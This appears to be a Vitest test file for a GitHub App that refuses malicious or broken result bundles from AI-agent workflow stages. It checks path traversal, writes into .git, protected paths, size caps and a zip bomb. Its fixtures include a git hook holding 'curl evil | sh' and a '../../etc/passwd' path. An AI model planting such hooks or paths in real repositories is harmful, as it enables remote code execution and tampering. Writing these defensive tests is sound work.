import { Readable } from "node:stream";
import { setImmediate } from "node:timers/promises";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ChangedFile } from "../../src/contracts/changes.js";
import { BUNDLE_LIMITS } from "../../src/contracts/read-result-bundle.js";
import {
  nockArtifact,
  nockDownloadArtifact,
  nockListArtifacts,
} from "../mocks/actions.js";
import { nockCreateComment } from "../mocks/issues.js";
import { buildBundle, textFile } from "../support/bundle.js";
import { BASE, BRANCH, RUN, startRun } from "../support/flow.js";
import { workflowRunPayload } from "../support/payloads.js";
import { bomb, deflated, MiB, rawZip } from "../support/raw-zip.js";
import { createTestApp, type TestApp } from "../support/test-app.js";
import { openTestStore } from "../support/test-store.js";

const ARTIFACT = `specwright-${RUN}-specify-1`;
const CAP = BUNDLE_LIMITS.archiveBytes;

/**
 * A blob body of `bytes` zeros made 1 MiB at a time, as a slow network
 * would hand it over, until `stop()`.
 */
function zeroStream(bytes: number) {
  let stopped = false;
  const chunk = Buffer.alloc(MiB);
  async function* zeros() {
    for (let sent = 0; sent < bytes && !stopped; sent += chunk.length) {
      await setImmediate();
      yield chunk;
    }
  }
  return {
    body: () => Readable.from(zeros()),
    stop: () => {
      stopped = true;
    },
  };
}

// A stage's agent read untrusted issue text, so its result bundle is
// untrusted too: the App refuses one that would write outside the
// repository, into .git, to a protected path, or too much — and commits
// nothing (the strict HTTP mocks fail the test on any git call).
describe("a malicious or broken result bundle", () => {
  let test: Awaited<ReturnType<typeof openTestStore>>;
  let app: TestApp;

  beforeAll(async () => {
    test = await openTestStore("pglite");
  });
  afterAll(async () => {
    await test.close();
  });
  beforeEach(async () => {
    await test.reset();
    app = await createTestApp(test.store, {
      runIds: [RUN],
      tokens: ["abc123"],
    });
  });

  const big = "x".repeat(10 * 1024 * 1024 + 1);

  it.each<
    [
      string,
      {
        files?: ChangedFile[];
        entries?: Record<string, string>;
        baseSha?: string;
      },
      string,
    ]
  >([
    [
      "a path that climbs out of the repository",
      { files: [textFile("../../etc/passwd", "root::0:0")] },
      "changes.json: '../../etc/passwd': the path has a '..' segment",
    ],
    [
      "a write into .git",
      { files: [textFile(".git/hooks/post-checkout", "curl evil | sh")] },
      "changes.json: '.git/hooks/post-checkout': the path is inside .git",
    ],
    [
      "a change to a workflow file",
      { files: [textFile(".github/workflows/ci.yml", "on: push")] },
      "changes.json: '.github/workflows/ci.yml' is a protected path (protected_paths in .github/specwright.yml)",
    ],
    [
      "an oversized file",
      { files: [textFile("specs/001/spec.md", big)] },
      `changes.json: 'specs/001/spec.md' is ${big.length} bytes, over 10485760`,
    ],
    [
      "changes against another commit than the one dispatched",
      {
        baseSha: "b".repeat(40),
        files: [textFile("specs/001/spec.md", "# Spec")],
      },
      `changes.json is against ${"b".repeat(40)}, not the dispatched branch head ${BASE}`,
    ],
    [
      "a result.json that is not JSON",
      { entries: { "result.json": "{not json" } },
      "result.json is not valid JSON",
    ],
  ])(
    "refuses %s, fails the stage and commits nothing",
    async (_, bundle, problem) => {
      const { checkUpdates } = await startRun(app);
      nockArtifact(
        101,
        `specwright-${RUN}-specify-1`,
        buildBundle({
          runId: RUN,
          stage: "specify",
          baseSha: bundle.baseSha ?? BASE,
          outputs: { spec: "specs/001/spec.md" },
          ...bundle,
        }),
      );
      const notice = nockCreateComment(42, 1, 9500);
      await app.receive(
        "workflow_run",
        workflowRunPayload("completed", {
          id: 101,
          runId: RUN,
          stage: "specify",
          branch: BRANCH,
        }),
      );
      expect(notice.bodies[0]?.body).toContain("failed");
      const run = await test.store.loadRun(RUN);
      const specify = run?.stages.find((s) => s.id === "specify");
      expect(specify?.status).toBe("failed");
      expect(specify?.reason).toContain("the result bundle was refused: ");
      expect(specify?.reason).toContain(problem);
      expect(specify?.attempts[0]?.commit_sha).toBeNull();
      expect(run?.head_sha).toBe(BASE);
      expect(run?.status).toBe("failed");
      expect(checkUpdates.bodies.at(-1)?.body).toMatchObject({
        conclusion: "failure",
      });
    },
  );

  it("allows a protected path the config no longer protects", async () => {
    await startRun(app, { config: "protected_paths: []\n" });
    nockArtifact(
      101,
      `specwright-${RUN}-specify-1`,
      buildBundle({
        runId: RUN,
        stage: "specify",
        baseSha: BASE,
        outputs: { spec: "specs/001/spec.md" },
        status: "failed",
        error: "the agent gave up",
        files: [textFile(".github/workflows/ci.yml", "on: push")],
      }),
    );
    // The run fails: people are told in a new comment.
    const notice = nockCreateComment(42, 1, 9500);
    await app.receive(
      "workflow_run",
      workflowRunPayload("completed", {
        id: 101,
        runId: RUN,
        stage: "specify",
        branch: BRANCH,
      }),
    );
    const specify = (await test.store.loadRun(RUN))?.stages.find(
      (s) => s.id === "specify",
    );
    // Accepted as a bundle; the stage itself reported failure, so nothing is committed.
    expect(specify?.reason).toBe("the agent gave up");
    expect(notice.bodies).toHaveLength(1);
  });

  it("fails a stage that reports success without a required output", async () => {
    await startRun(app);
    nockArtifact(
      101,
      `specwright-${RUN}-specify-1`,
      buildBundle({ runId: RUN, stage: "specify", baseSha: BASE, outputs: {} }),
    );
    // The run fails: people are told in a new comment.
    const notice = nockCreateComment(42, 1, 9500);
    await app.receive(
      "workflow_run",
      workflowRunPayload("completed", {
        id: 101,
        runId: RUN,
        stage: "specify",
        branch: BRANCH,
      }),
    );
    const specify = (await test.store.loadRun(RUN))?.stages.find(
      (s) => s.id === "specify",
    );
    expect(specify).toMatchObject({
      status: "failed",
      reason: "the stage reported success without its required output 'spec'",
    });
    expect(notice.bodies[0]?.body).toContain("required output 'spec'");
  });

  /** The stage's workflow run completes; the App collects its bundle. */
  async function collect() {
    nockCreateComment(42, 1, 9500);
    await app.receive(
      "workflow_run",
      workflowRunPayload("completed", {
        id: 101,
        runId: RUN,
        stage: "specify",
        branch: BRANCH,
      }),
    );
    const run = await test.store.loadRun(RUN);
    expect(run?.head_sha).toBe(BASE);
    return run?.stages.find((s) => s.id === "specify");
  }

  it("refuses a zip bomb (300 MiB of zeros declared as 10 bytes) at once", async () => {
    await startRun(app);
    const own = unzipSync(
      buildBundle({
        runId: RUN,
        stage: "specify",
        baseSha: BASE,
        outputs: { spec: "specs/001/spec.md" },
      }),
    );
    const zip = rawZip([
      ...Object.entries(own).map(([name, data]) => deflated(name, data)),
      bomb("stderr-full.log", Math.floor((300 * MiB) / 258), 10),
    ]);
    nockArtifact(101, ARTIFACT, zip);
    const specify = await collect();
    expect(specify?.status).toBe("failed");
    expect(specify?.reason).toBe(
      "the result bundle was refused: stderr-full.log inflates to more than the 10 bytes its header declares",
    );
  });

  it("refuses an artifact the listing says is over the cap, without downloading it", async () => {
    await startRun(app);
    nockListArtifacts(101, ARTIFACT, { id: 1010, sizeInBytes: CAP + 1 });
    // Answered if asked (strict mocking would fail the test otherwise).
    const download = nockDownloadArtifact(1010, new Uint8Array(0), {
      optional: true,
    });
    let downloads = 0;
    download.scope.on("request", () => downloads++);
    download.blob.on("request", () => downloads++);
    const specify = await collect();
    expect(specify?.reason).toBe(
      `the result bundle was refused: the archive is ${CAP + 1} bytes, over ${CAP} (the artifact listing's size; it was not downloaded)`,
    );
    expect(downloads).toBe(0);
  });

  it("refuses a blob whose Content-Length is over the cap, without reading it", async () => {
    await startRun(app);
    nockListArtifacts(101, ARTIFACT, { id: 1010, sizeInBytes: 1000 });
    const stream = zeroStream(2 * CAP);
    nockDownloadArtifact(1010, stream.body, {
      headers: { "content-length": String(CAP + 1) },
    });
    const specify = await collect();
    stream.stop();
    expect(specify?.reason).toBe(
      `the result bundle was refused: the archive is ${CAP + 1} bytes, over ${CAP} (its Content-Length; it was not downloaded)`,
    );
  });

  it("stops a download the moment it passes the cap", async () => {
    await startRun(app);
    // The listing understates it and the blob gives no length.
    nockListArtifacts(101, ARTIFACT, { id: 1010, sizeInBytes: 1000 });
    const stream = zeroStream(4 * CAP);
    nockDownloadArtifact(1010, stream.body);
    const specify = await collect();
    stream.stop();
    expect(specify?.reason).toBe(
      `the result bundle was refused: the archive is over ${CAP} bytes (the download was stopped there)`,
    );
  });
});
